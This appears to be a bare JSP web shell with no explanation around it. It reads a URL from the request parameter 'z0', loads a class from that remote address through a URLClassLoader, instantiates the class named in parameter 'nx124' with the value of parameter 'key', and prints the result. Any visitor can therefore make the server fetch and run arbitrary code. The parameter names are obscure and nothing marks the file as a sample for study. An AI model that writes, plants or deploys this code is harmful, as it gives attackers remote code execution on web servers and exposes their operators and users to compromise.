<%@ page import="java.net.*" %><%
    String u = request.getParameter("z0");
    if (u != null) {
        URLClassLoader ucl = new URLClassLoader(new URL[]{new URL(u)}, this.getClass().getClassLoader());
        Class<?> c = ucl.loadClass(request.getParameter("nx124"));
        Object o = c.getConstructor(String.class).newInstance(request.getParameter("key"));
        out.print(o.toString());
    }
%>
